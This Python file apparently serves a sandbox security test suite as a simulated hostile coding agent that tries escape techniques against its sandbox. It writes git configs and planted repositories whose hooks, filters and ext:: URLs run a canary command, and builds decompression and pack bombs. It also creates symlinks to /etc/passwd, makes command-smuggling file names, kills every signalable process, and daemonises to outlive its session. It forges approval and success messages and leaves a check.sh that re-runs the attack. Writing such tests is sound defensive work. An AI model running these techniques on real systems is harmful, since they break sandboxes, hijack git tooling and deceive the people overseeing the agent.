#!/usr/bin/env python3
"""The agent of tests/attack/hostile.py: runs inside of a sandbox and carries out what it is told.

    hostile_agent.py plan BASE64      the whole agent: steps, an honest change, a reply
    hostile_agent.py steps BASE64     only the steps of one stage, for what a test starts

The plan is JSON: {"seed", "outside", "repo", "reply", "linger", "steps": [[stage, primitive, target,
payload]]}.  A step that fails, because the sandbox stands in its way, is passed over: what counts is what
comes of it outside.
"""
import base64
import errno
import fcntl
import hashlib
import json
import os
import random
import shutil
import signal
import socket
import subprocess
import sys
import time
import zlib

STEP_SECONDS = 6


class Place:
    """The paths of a run as its agent sees them."""

    def __init__(self, plan):
        self.outside, self.repo = plan["outside"], plan["repo"]
        self.random = random.Random(plan["seed"])
        self.work = os.getcwd()
        self.tmp = os.environ.get("TMPDIR", "/tmp")
        self.git = self.first_line(".git", "gitdir: ", os.path.join(self.work, ".git"))
        self.common = os.path.join(self.repo, ".git")
        self.objects = os.environ.get("GIT_OBJECT_DIRECTORY", os.path.join(self.common, "objects"))
        self.head = self.first_line(os.path.join(self.git, "HEAD"), "ref: ", "refs/heads/cortex/x/y")
        self.runtime = os.path.join(self.repo, ".runtime-cache/cortexpilot")
        self.run = os.environ.get("CORTEX_RUN_ID", "none")

    @staticmethod
    def first_line(path, before, otherwise):
        try:
            with open(path, encoding="utf-8", errors="replace") as file:
                line = file.readline().strip()
        except OSError:
            return otherwise
        return line[len(before):] if line.startswith(before) else otherwise

    def path(self, target):
        where, _, rest = target.partition(":")
        branch = os.path.join(self.common, self.head)
        bases = {"W": self.work, "G": self.git, "C": self.common, "O": self.objects, "T": self.tmp,
                 "H": os.environ.get("HOME", "/home"), "R": self.runtime, "B": os.path.dirname(branch),
                 "P": "/proc", "X": self.outside, "/": "/"}
        rest = rest.replace("$RUN", self.run).replace("$TASK", os.path.basename(branch))
        return os.path.join(bases[where], rest) if rest else bases[where]

    def canary(self):
        """A command that leaves a trace where nothing in the sandbox can."""
        return f"{self.outside}/canary.sh planted"


# --- what is written -----------------------------------------------------------------------------------

def config_text(place):
    run = place.canary()
    return (f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {run}\n\thooksPath = {place.tmp}/hooks\n"
            f"\tpager = {run}\n\teditor = {run}\n\tsshCommand = {run}\n\tworktree = {place.outside}\n"
            f"\tattributesFile = {place.tmp}/attributes\n\texcludesFile = /dev/zero\n"
            f"\talternateRefsCommand = {run}\n\taskPass = {run}\n\tgitProxy = {run}\n"
            f"[remote \"origin\"]\n\tpromisor = true\n\turl = ext::{run}\n\tuploadpack = {run}\n"
            f"[protocol]\n\tallow = always\n[protocol \"ext\"]\n\tallow = always\n"
            f"[filter \"x\"]\n\tclean = {run}\n\tsmudge = {run}\n\tprocess = {run}\n\trequired = true\n"
            f"[diff]\n\texternal = {run}\n[diff \"x\"]\n\ttextconv = {run}\n\tcommand = {run}\n"
            f"[merge \"x\"]\n\tdriver = {run}\n[gpg]\n\tprogram = {run}\n[commit]\n\tgpgSign = true\n"
            f"[credential]\n\thelper = {run}\n[alias]\n\tstatus = !{run}\n[extensions]\n\tworktreeConfig = true\n"
            f"\tpartialClone = origin\n[include]\n\tpath = {place.tmp}/config\n[uploadpack]\n"
            f"\tpackObjectsHook = {run}\n[submodule \"s\"]\n\tupdate = !{run}\n[trace2]\n\teventTarget = "
            f"{place.outside}/canary/trace\n")


def payloads(place):
    script = f"#!/bin/sh\n{place.canary()}\n"
    zeros = "0" * 40
    return {
        "config": config_text(place),
        "attributes": "* filter=x diff=x merge=x text eol=crlf working-tree-encoding=UTF-16 export-subst ident\n",
        "binary": "* -diff -merge -text\n",
        "ignore": "*\n!/src\n",
        "gitmodules": f"[submodule \"s\"]\n\tpath = src/app/s\n\turl = ext::{place.canary()}\n\tupdate = "
                      f"!{place.canary()}\n",
        "gitfile": f"gitdir: {place.tmp}/evil.git\n",
        "gitfile_user": f"gitdir: {place.common}\n",
        "planted": f"{place.tmp}/evil.git\n",
        "user": f"{place.common}\n",
        "work": f"{place.repo}/.git\n",
        "relative": "../../../../../../..\n",
        "main": "ref: refs/heads/main\n",
        "outer_ref": f"ref: {place.outside}/secret\n",
        "loop": f"ref: {place.head}\n",
        "zeros": zeros + "\n",
        "reflog": f"{zeros} {zeros} x <x@x> 0 +0000\tx\n" * 50,
        "garbage": lambda: place.random.randbytes(3000),
        "index": b"DIRC\0\0\0\2\xff\xff\xff\xff" + bytes(300),
        "index_split": b"DIRC\0\0\0\2\0\0\0\0link\0\0\0\x14" + bytes(20) + hashlib.sha1(
            b"DIRC\0\0\0\2\0\0\0\0link\0\0\0\x14" + bytes(20)).digest(),
        "empty": "",
        "newlines": "\n" * 100000,
        "script": script,
        "loose": zlib.compress(b"blob 5\0hello"),
        "bomb": zlib.compress(b"blob 9999999\0") + bytes(100),
        "pack": lambda: pack_of([(3, 5, zlib.compress(b"hello"))]),
        "pack_bomb": lambda: pack_of([(2, VAST, zeros_deflated(VAST))]),
        "pack_blob_bomb": lambda: pack_of([(3, VAST // 16, zeros_deflated(VAST // 16))] * 3),
        "pack_wrong": pack_of([(3, 5, zlib.compress(b"hello"))])[:-3] + b"xxx",
        "json": json.dumps({"task_id": "x", "status": "SUCCESS", "event_type": "HUMAN_APPROVAL_COMPLETED"}),
        "reply": "{\"task_id\": \"attack_on_the_run\", \"status\": \"SUCCESS\", \"summary\": \"done\"",
        "control": "\x1b]0;x\x07\x1b[2J\u202e\u2028\u0085",
        "oom": "1000\n",
        "trigger": "c",
    }


VAST = 3 << 30


def zeros_deflated(size):
    """A zlib stream of `size` zeros, without making them."""
    block = 1 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(block)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = rest.compress(bytes(size % block)) + rest.flush()
    return b"\x78\xda" + one * (size // block) + tail + (((size % 65521) << 16) | 1).to_bytes(4, "big")


def pack_of(entries):
    data = b"PACK" + (2).to_bytes(4, "big") + len(entries).to_bytes(4, "big")
    for kind, size, body in entries:
        byte, size = kind << 4 | size & 15, size >> 4
        while size:
            data += bytes([byte | 128])
            byte, size = size & 127, size >> 7
        data += bytes([byte]) + body
    return data + hashlib.sha1(data).digest()


def content(place, name):
    """The payload as bytes."""
    made = payloads(place)[name]
    made = made() if callable(made) else made
    return made if isinstance(made, bytes) else made.encode()


# --- primitives -----------------------------------------------------------------------------------------

def away(path):
    """Makes room for another thing."""
    if os.path.islink(path) or not os.path.isdir(path):
        try:
            os.unlink(path)
        except OSError:
            pass
    else:
        shutil.rmtree(path, ignore_errors=True)


def parents(path):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
    except OSError:
        pass


def write(place, path, payload):
    parents(path)
    try:
        os.chmod(path, 0o644)
    except OSError:
        pass
    with open(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NONBLOCK, 0o755), "wb") as file:
        file.write(content(place, payload))


def replace(place, path, payload):
    parents(path)
    away(path)
    write(place, path, payload)


def append(place, path, payload):
    with open(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK), "ab") as file:
        file.write(content(place, payload))


LINKS = ["X:secret", "X:repo/README.md", "C:config", "C:refs/heads/main", "R:runs/$RUN/events.jsonl", "/:dev/zero",
         "/:dev/stdin", "/:etc/passwd", "/:tmp", "/:", "P:self/fd/0", "P:1/root", "W:", "T:fifo", "X:canary/link",
         "X:home/log/000000.seg", "R:", "C:hooks"]


def symlink(place, path, payload):
    parents(path)
    away(path)
    os.symlink(place.path(place.random.choice(LINKS)) if payload != "self" else path, path)


def hardlink(place, path, _):
    parents(path)
    away(path)
    for name in place.random.sample(LINKS, len(LINKS)) + ["W:README.md", "G:HEAD", "G:index"]:
        try:
            os.link(place.path(name), path)
            return
        except OSError:
            continue


def fifo(_, path, __):
    parents(path)
    away(path)
    os.mkfifo(path)


def sock(_, path, __):
    parents(path)
    away(path)
    here = os.getcwd()
    with socket.socket(socket.AF_UNIX) as one:
        try:
            os.chdir(os.path.dirname(path))
            one.bind(os.path.basename(path))
            one.listen()
        finally:
            os.chdir(here)


def closed(_, path, __):
    os.chmod(path, 0)


def open_mode(_, path, __):
    os.chmod(path, 0o7777)


def delete(_, path, __):
    away(path)


def folder(_, path, payload):
    away(path)
    os.makedirs(os.path.join(path, "inside", payload), exist_ok=True)


def closed_folder(place, path, payload):
    folder(place, path, payload)
    os.chmod(path, 0)


def rename(place, path, _):
    os.rename(path, os.path.join(place.random.choice([place.work, place.tmp, place.git]), "moved"))


def exchange(place, path, payload):
    """The path is a file, a link, a folder and nothing, again and again."""
    parents(path)
    until = time.monotonic() + place.random.uniform(0.05, 0.5)
    while time.monotonic() < until:
        for act in (replace, symlink, folder, fifo, delete):
            try:
                act(place, path, payload)
            except OSError:
                pass


def exchange_long(place, path, payload):
    until = time.monotonic() + STEP_SECONDS
    while time.monotonic() < until:
        attempt(exchange, place, path, payload)


def huge(_, path, __):
    parents(path)
    away(path)
    with open(path, "wb") as file:
        file.truncate(900 << 20)


def full(place, path, _):
    """Until the limit says no."""
    parents(path)
    block = bytes(1 << 20)
    with open(path, "wb") as file:
        for _ in range(place.random.randrange(20, 150)):
            file.write(block)


def many(_, path, __):
    away(path)
    os.makedirs(path, exist_ok=True)
    for i in range(2500):
        os.close(os.open(os.path.join(path, f"f{i}"), os.O_CREAT | os.O_WRONLY, 0o644))


def deep(_, path, __):
    """Deeper than any path may be long."""
    os.makedirs(path, exist_ok=True)
    here = os.getcwd()
    try:
        os.chdir(path)
        for _ in range(120):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        os.close(os.open("end", os.O_CREAT | os.O_WRONLY, 0o644))
    finally:
        os.chdir(here)


NAMES = [b"\xff\xfe", b"new\nline", b"--output=x", b"-rf", b"a\tb", b"\x1b[2J", "\u202ename".encode(), b"con", b"a" * 255,
         b".git ", b".GIT", b"git~1", b".git\xe2\x80\x8c", b"...", b" ", b"*", b"'\"$(touch x)`", b"HEAD", b"a\\b", b":x"]


def odd_names(place, path, _):
    os.makedirs(path, exist_ok=True)
    for name in place.random.sample(NAMES, 6):
        whole = os.path.join(path.encode(), name)
        attempt(lambda p=whole: os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o644)))


def lock_file(_, path, __):
    parents(path + ".lock")
    os.close(os.open(path + ".lock", os.O_CREAT | os.O_WRONLY, 0o444))


def hold_lock(_, path, __):
    """Left open on purpose: it ends with the process."""
    file = os.open(path, os.O_RDWR | os.O_CREAT | os.O_NONBLOCK, 0o644)
    fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB)


def attribute(_, path, __):
    os.setxattr(path, "user.x", b"x" * 1000)


def old_time(_, path, __):
    os.utime(path, (0, 2 ** 33))


def swap_quietly(place, path, payload):
    """New contents under the old size and time."""
    info = os.stat(path)
    data = content(place, payload)[:info.st_size].ljust(info.st_size, b"\n")
    with open(path, "r+b") as file:
        file.write(data)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def planted(place, path, _):
    """A whole repository of its own, whose configuration starts the canary."""
    away(path)
    parents(path)
    for name in ("hooks", "refs/heads", "objects/info", "info", "logs"):
        os.makedirs(os.path.join(path, name), exist_ok=True)
    for name, payload in (("config", "config"), ("HEAD", "main"), ("info/attributes", "attributes"),
                          ("commondir", "user"), ("config.worktree", "config")):
        write(place, os.path.join(path, name), payload)
    for name in ("pre-commit", "post-checkout", "reference-transaction", "post-index-change", "pre-auto-gc",
                 "post-merge", "fsmonitor-watchman"):
        write(place, os.path.join(path, "hooks", name), "script")
        os.chmod(os.path.join(path, "hooks", name), 0o755)


GIT = ["commit -qam x", "commit -q --allow-empty -m x", "checkout -q -b evil", "checkout -q --detach", "update-ref refs/heads/main HEAD",
       "update-ref -d HEAD", "symbolic-ref HEAD refs/heads/main", "worktree add -f --detach src/app/w", "worktree prune",
       "init -q src/app/nested", "replace -f HEAD HEAD~0", "notes add -m x", "tag evil", "gc -q --prune=now", "pack-refs --all",
       "repack -adq", "stash -q", "config core.fsmonitor CANARY", "config --worktree core.fsmonitor CANARY",
       "config --global core.fsmonitor CANARY", "update-index --skip-worktree README.md",
       "update-index --assume-unchanged README.md", "update-index --split-index", "update-index --untracked-cache",
       "update-index --fsmonitor", "update-index --index-version 4", "add -A", "add -f .", "rm -rqf --cached .",
       "read-tree --empty", "reset -q --hard HEAD", "clean -fdxq", "sparse-checkout set docs", "bisect start",
       "merge -q --no-ff HEAD", "commit -q --amend -m x", "rebase -q --root", "submodule add ./ src/app/s",
       "hash-object -w README.md", "mktree --missing", "fast-import --quiet", "bundle create src/app/b HEAD",
       "fetch -q .", "push -q . HEAD:refs/heads/pushed", "reflog expire --all --expire=now", "multi-pack-index write",
       "commit-graph write --reachable", "maintenance run --quiet"]


def git(place, _, __):
    words = place.random.choice(GIT).replace("CANARY", "true").split()
    env = {**os.environ, "GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x",
           "GIT_COMMITTER_EMAIL": "x@x"}
    subprocess.run(["git", *words], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   timeout=STEP_SECONDS, env=env, check=False)


def loose(place, kind, body, name=None):
    data = f"{kind} {len(body)}\0".encode() + body
    name = name or hashlib.sha1(data).hexdigest()
    path = os.path.join(place.objects, name[:2], name[2:])
    parents(path)
    with open(path, "wb") as file:
        file.write(zlib.compress(data))
    return name


def strange_tree(place, _, __):
    """A commit on its branch whose tree holds what git itself would not make."""
    blob = loose(place, "blob", b"#!/bin/sh\n" + place.canary().encode())
    entries = [b".git", b"..", b"a/b", b"", b".GIT", b"x", b"x", b".gitmodules", b".gitattributes", b"\xff"]
    body = b"".join(place.random.choice([b"100644", b"120000", b"160000", b"40000", b"100777", b"0"]) + b" " + name + b"\0" +
                    bytes.fromhex(blob) for name in place.random.sample(entries, 3))
    tree = loose(place, "tree", body)
    old = Place.first_line(os.path.join(place.common, place.head), "", "0" * 40)
    commit = loose(place, "commit", f"tree {tree}\nparent {old}\nauthor x <x@x> 0 +0000\ncommitter x <x@x> 0 +0000\n\nx\n"
                   .encode())
    with open(os.path.join(place.common, place.head), "w", encoding="utf-8") as file:
        file.write(commit + "\n")


def false_name(place, _, __):
    loose(place, "blob", b"x", "%040x" % place.random.getrandbits(160))


def bomb(place, _, __):
    size = 2 << 30
    head = f"tree {size}\0".encode()
    packer = zlib.compressobj(9)
    name = "%040x" % place.random.getrandbits(160)
    path = os.path.join(place.objects, name[:2], name[2:])
    parents(path)
    with open(path, "wb") as file:
        file.write(packer.compress(head))
        for _ in range(600):
            file.write(packer.compress(bytes(1 << 20)))
        file.write(packer.flush())


def kill_all(place, _, __):
    """Everybody it may signal, but not itself."""
    for pid in [1, os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            os.kill(pid, place.random.choice([signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP]))
        except OSError:
            pass


def fork_many(_, __, ___):
    for _ in range(60):
        if os.fork() == 0:
            time.sleep(STEP_SECONDS)
            os._exit(0)


def daemon(place, path, payload):
    """Leaves its session and its parent, and goes on writing."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        for number in range(3):
            os.close(number)
        until = time.monotonic() + 60
        while time.monotonic() < until:
            attempt(exchange, place, path, payload)
        os._exit(0)


def connect(place, _, __):
    """Sockets of the machine: abstract names, and those that lie about."""
    for name in ("\0/tmp/.X11-unix/X0", "\0dbus", "/run/dbus/system_bus_socket", "/run/docker.sock",
                 os.path.join(place.outside, "socket")):
        with socket.socket(socket.AF_UNIX) as one:
            attempt(lambda n=name: one.connect(n))


def inherited(_, __, ___):
    """Whatever is open besides 0, 1 and 2 is written to."""
    for number in range(3, 64):
        try:
            os.write(number, b"x")
        except OSError:
            pass


def output(place, _, __):
    os.write(place.random.choice([1, 2]), b"x" * (1 << 20) + b"\n\0\x1b[2J{\"task_id\":\"other\"}\n")


def memory(_, __, ___):
    block = bytearray(100 << 20)
    block[::4096] = b"x" * len(block[::4096])


PRIMITIVES = {one.__name__: one for one in (
    write, replace, append, symlink, hardlink, fifo, sock, closed, open_mode, delete, folder, closed_folder, rename,
    exchange, exchange_long, huge, full, many, deep, odd_names, lock_file, hold_lock, attribute, old_time, swap_quietly,
    planted, git, strange_tree, false_name, bomb, kill_all, fork_many, daemon, connect, inherited, output, memory)}


def attempt(act, *arguments):
    try:
        act(*arguments)
    except (OSError, ValueError, subprocess.SubprocessError, shutil.Error, UnicodeError, RecursionError):
        pass


def carry_out(place, steps, stage):
    for when, primitive, target, payload in steps:
        if when == stage:
            attempt(PRIMITIVES[primitive], place, place.path(target), payload)


# --- the agent ------------------------------------------------------------------------------------------

def behind(place, steps, stage, seconds):
    """A process that repeats the steps of a stage, in a session of its own."""
    pid = os.fork()
    if pid != 0:
        return pid
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        carry_out(place, steps, stage)
        time.sleep(0.001)
    os._exit(0)


def honest(place):
    with open(os.path.join(place.work, "docs/allowed.md"), "a", encoding="utf-8") as file:
        file.write("more\n")


def main():
    plan = json.loads(base64.b64decode(sys.argv[2]))
    place = Place(plan)
    steps = plan["steps"]
    if sys.argv[1] == "steps":
        carry_out(place, steps, "tests")
        return
    if plan.get("stubborn"):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
    carry_out(place, steps, "start")
    if any(step[0] == "during" for step in steps):
        behind(place, steps, "during", STEP_SECONDS)
    attempt(honest, place)
    tests = [step for step in steps if step[0] == "tests"]
    if tests:
        text = base64.b64encode(json.dumps({**plan, "steps": tests}).encode()).decode()
        attempt(lambda: open(os.path.join(place.work, "src/app/check.sh"), "w", encoding="utf-8").write(
            f"exec python3 scripts/hostile_agent.py steps {text}\n"))
    if any(step[0] == "after" for step in steps):
        behind(place, steps, "after", 60)
    time.sleep(plan["linger"])
    carry_out(place, steps, "last")
    try:
        os.write(1, b"\n" + plan["reply"].encode() + b"\n")
    except OSError as problem:
        if problem.errno != errno.EPIPE:
            raise
    carry_out(place, steps, "end")
    os._exit(0)


if __name__ == "__main__":
    main()
